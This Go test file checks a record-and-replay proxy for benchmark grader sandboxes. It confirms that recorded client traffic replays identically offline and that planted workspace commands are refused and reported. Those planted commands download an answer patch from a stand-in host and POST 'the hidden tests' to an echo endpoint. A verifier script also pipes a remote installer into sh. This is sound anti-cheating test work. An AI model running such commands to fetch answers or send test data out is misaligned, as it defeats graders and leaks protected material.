package hermetic

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// clientRun runs real clients (sh, curl, Python's urllib, pip) on the
// host, through the proxy at addr, trusting the bundle written to a file:
// the environment a grader sandbox gets, with the bundle's path on the
// host in place of BundlePaths[0].
type clientRun struct {
	t      *testing.T
	addr   string
	bundle string
	home   string
	python string
}

func newClientRun(t *testing.T, addr string, tr Trust) *clientRun {
	dir := t.TempDir()
	bundle := filepath.Join(dir, "ca-bundle.pem")
	if err := os.WriteFile(bundle, tr.Bundle, 0o644); err != nil {
		t.Fatal(err)
	}
	home := filepath.Join(dir, "home")
	os.Mkdir(home, 0o755)
	return &clientRun{t: t, addr: addr, bundle: bundle, home: home, python: pythonWithPip(t)}
}

func (c *clientRun) env(tr Trust) []string {
	env := []string{"PATH=/usr/local/bin:/usr/bin:/bin", "HOME=" + c.home, "LC_ALL=C.UTF-8", "PYTHON=" + c.python}
	for _, k := range []string{"http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY"} {
		env = append(env, k+"=http://"+c.addr)
	}
	for _, kv := range tr.Env {
		env = append(env, strings.Replace(kv, "="+BundlePaths[0], "="+c.bundle, 1))
	}
	return append(env, "PIP_NO_CACHE_DIR=1", "PIP_DISABLE_PIP_VERSION_CHECK=1", "PIP_NO_INPUT=1")
}

// run runs script with sh and returns its output (HOME written "~"), and
// whether it exited 0.
func (c *clientRun) run(env []string, script string) (string, bool) {
	c.t.Helper()
	cmd := exec.Command("sh", "-c", script)
	cmd.Env, cmd.Dir = env, c.home
	done := make(chan struct{})
	go func() {
		select {
		case <-done:
		case <-time.After(2 * time.Minute):
			cmd.Process.Kill()
		}
	}()
	out, err := cmd.CombinedOutput()
	close(done)
	return strings.ReplaceAll(string(out), c.home, "~"), err == nil
}

// pythonWithPip is a python3 that has pip, or the test is skipped (a
// failure under CI).
func pythonWithPip(t *testing.T) string {
	t.Helper()
	for _, p := range []string{"/usr/bin/python3", "python3"} {
		if path, err := exec.LookPath(p); err == nil && exec.Command(path, "-m", "pip", "--version").Run() == nil {
			return path
		}
	}
	skipOrFail(t, "needs python3 with pip (scripts/deps.sh installs python3-pip)")
	return ""
}

// theVerifier is what a Terminal-Bench verifier does before its tests:
// install a tool with curl | sh, fetch a package with pip, read an index
// with urllib, and a file over plain http as apt does. It prints what it
// got, digests included.
const theVerifier = `set -e
curl -LsSf https://astral.sh/uv/0.9.5/install.sh | sh
. "$HOME/.local/bin/env"
uv --version
"$PYTHON" -m pip download --no-deps --index-url https://index.example.org/simple/ -d "$HOME/wheels" tinypkg==1.0 >/dev/null
sha256sum "$HOME/wheels/"*
"$PYTHON" -c 'import urllib.request, hashlib; b = urllib.request.urlopen("https://index.example.org/simple/tinypkg/").read(); print("index", hashlib.sha256(b).hexdigest(), len(b))'
curl -fsS http://deb.example.org/debian/dists/stable/InRelease
curl -fsS -o "$HOME/curl.deb" http://deb.example.org/debian/pool/main/c/curl/curl_1.0_amd64.deb
sha256sum "$HOME/curl.deb" "$HOME/.local/bin/uv"
`

// TestRealClients runs theVerifier's clients, as Debian ships them,
// through the recorder, then through the replayer with the internet
// down: the same output, byte for byte, and no violation. What the
// recording does not hold is refused and reported; a client that does not
// trust the store's CA fails.
func TestRealClients(t *testing.T) {
	requireTool(t, "curl")
	requireTool(t, "sha256sum")
	requireTool(t, "tar")
	s := record(t, nil)
	st, w, tr := s.st, s.w, s.tr
	cr := newClientRun(t, s.addr, tr)
	want, ok := cr.run(cr.env(tr), theVerifier)
	if !ok {
		t.Fatalf("the verifier through the recorder:\n%s", want)
	}
	for _, s := range []string{"uv 0.9.5 (test stand-in) --version", "tinypkg-1.0-py3-none-any.whl", "Suite: stable", "index "} {
		if !strings.Contains(want, s) {
			t.Fatalf("the verifier's output lacks %q:\n%s", s, want)
		}
	}
	if err := st.Save("tb-task", s.finish()); err != nil {
		t.Fatal(err)
	}
	w.stop()
	conns := w.conns.Load()

	loaded, err := st.Load("tb-task")
	if err != nil {
		t.Fatal(err)
	}
	rp := s.replay(loaded)
	raddr, pd := rp.addr, &rp.pd
	for round := range 2 {
		cr2 := newClientRun(t, raddr, tr) // a fresh HOME: nothing cached
		got, ok := cr2.run(cr2.env(tr), theVerifier)
		if !ok || got != want {
			t.Fatalf("replayed (round %d), ok %v:\n%s\nrecorded:\n%s", round, ok, got, want)
		}
	}
	if v := pd.violations(); len(v) != 0 {
		t.Fatalf("violations replaying the verifier: %+v", v)
	}

	// Code planted in the workspace fetches what the pristine run did not.
	cr3 := newClientRun(t, raddr, tr)
	planted := []struct{ name, script, url string }{
		{"curl, another version", "curl -fsS https://astral.sh/uv/0.9.6/install.sh", "https://astral.sh/uv/0.9.6/install.sh"},
		{"curl, another host", "curl -fsS https://solutions.example.com/answer.patch", "solutions.example.com:443"},
		{"urllib, posting the tests", `"$PYTHON" -c 'import urllib.request; urllib.request.urlopen("https://index.example.org/api/echo", data=b"the hidden tests")'`, "https://index.example.org/api/echo"},
		{"plain http", "curl -fsS http://deb.example.org/debian/dists/unstable/InRelease", "http://deb.example.org/debian/dists/unstable/InRelease"},
	}
	for _, p := range planted {
		before := len(pd.violations())
		if out, ok := cr3.run(cr3.env(tr), p.script); ok {
			t.Errorf("%s: fetched, not refused:\n%s", p.name, out)
		}
		v := pd.violations()[before:]
		if len(v) != 1 || v[0].URL != p.url {
			t.Errorf("%s: violations %+v, want one for %s", p.name, v, p.url)
		}
	}
	if w.conns.Load() != conns {
		t.Error("the replay connected to an upstream server")
	}

	// Without the CA in its trust, curl refuses the tunnel's certificate.
	system, _ := os.ReadFile(BundlePaths[0])
	bare := filepath.Join(t.TempDir(), "system-only.pem")
	os.WriteFile(bare, system, 0o644)
	env := append(cr3.env(tr), "CURL_CA_BUNDLE="+bare, "SSL_CERT_FILE="+bare)
	out, ok := cr3.run(env, "curl -sS https://astral.sh/uv/0.9.5/install.sh; echo exit $?")
	if ok && !strings.Contains(out, "exit 60") {
		t.Errorf("curl without the CA: %s", out)
	}
	if bytes.Contains([]byte(out), []byte(installScript)) {
		t.Error("curl without the CA got the script")
	}
}
